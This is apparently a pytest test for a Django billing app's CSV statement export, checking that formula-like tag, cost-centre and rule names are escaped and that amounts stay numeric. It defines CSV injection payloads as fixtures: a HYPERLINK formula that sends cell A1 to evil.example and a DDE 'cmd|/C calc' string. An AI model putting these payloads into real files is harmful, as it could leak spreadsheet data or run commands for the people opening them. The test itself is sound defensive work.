"""The statement export cannot run a formula in the budget owner's spreadsheet: a feature tag value, a cost
centre name and a rule name that look like formulas are written as text, the amounts (a negative true-up
included) as numbers that add up to the statement total."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django_scopes import scope

from apps.allocation.runs import allocation_run_create
from apps.allocation.services import draft_publish
from apps.owners.models import BudgetOwner
from apps.periods.models import BillingPeriod
from apps.statements.models import Statement
from apps.statements.services import statements_issue
from tests.factories.allocation import allocation_catalog, rule_set_with_draft
from tests.factories.invoices import InvoiceLineFactory, ProviderInvoiceFactory
from tests.factories.reconciliation import DailyUsageFactory
from tests.factories.statements import OCT, billing_period_of, set_state
from tests.factories.taxonomy import TagSetFactory

pytestmark = pytest.mark.django_db

FEATURE = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"Open the report")'
OWNER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
RULE_NAME = "+Teams"
G = 1_000_000_000


def _issue_hostile_october(organization) -> Statement:
    """CC-1101 gets $10.00 of openai input tagged team=search and a hostile feature; the invoice says $8.50,
    so the owner's true-up is -1.50."""
    allocation_catalog(organization)
    with scope(organization=organization):
        BudgetOwner.objects.filter(code="CC-1101").update(name=OWNER_NAME)
    draft = rule_set_with_draft(
        organization,
        {
            "true_up": {"mode": "full_cost", "central_owner": None},
            "rules": [{"kind": "tag_map", "name": RULE_NAME, "dimension": "team", "conditions": []}],
        },
    )
    draft_publish(draft=draft, actor=None)
    with scope(organization=organization):
        DailyUsageFactory(
            organization=organization,
            day=OCT + datetime.timedelta(days=4),
            tagset=TagSetFactory(organization=organization, tags={"team": "search", "feature": FEATURE}),
            cost_input_nano=10 * G,
            requests=3,
        )
        invoice = ProviderInvoiceFactory(organization=organization, provider="openai", billing_period=OCT)
        InvoiceLineFactory(invoice=invoice, amount_nano=8_500_000_000)
    run = allocation_run_create(organization=organization, period=OCT, actor=None)
    statements_issue(
        billing_period=set_state(billing_period_of(run), BillingPeriod.State.IN_REVIEW), actor=None, reason=""
    )
    with scope(organization=organization):
        return Statement.objects.get(owner__code="CC-1101", version=1)


def test_hostile_text_is_neutralised_and_the_amounts_stay_numbers(world):
    statement = _issue_hostile_october(world.org("a"))
    with scope(organization=world.org("a")):
        statement.owner.owner_users.add(world.user("a", "budget_owner"))

    response = world.login("a", "budget_owner").get(
        reverse("statements:export", kwargs={"org_slug": "alpha", "pk": statement.pk})
    )

    assert response.status_code == 200
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["section"], row["feature"], row["rule"], row["amount"], row["amount_exact"]) for row in rows] == [
        ("direct", "'" + FEATURE, "'" + RULE_NAME, "10.00", "10.000000000"),
        ("true_up", "", "true-up policy", "-1.50", "-1.500000000"),
    ]
    assert {row["cost_centre_name"] for row in rows} == {"'" + OWNER_NAME}
    assert sum(Decimal(row["amount"]) for row in rows) == Decimal("8.50")
    # In the file: the feature is quoted text behind its quote, the true-up a bare negative number.
    direct_line, true_up_line = text.splitlines()[1:]
    assert '"direct",1,"\'=HYPERLINK(CONCAT(""http://evil.example/?"",A1),""Open the report"")","openai"' in direct_line
    assert ',"USD",-1.50,-1.500000000,"' in true_up_line
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") or value.lstrip("-")[:1].isdigit()
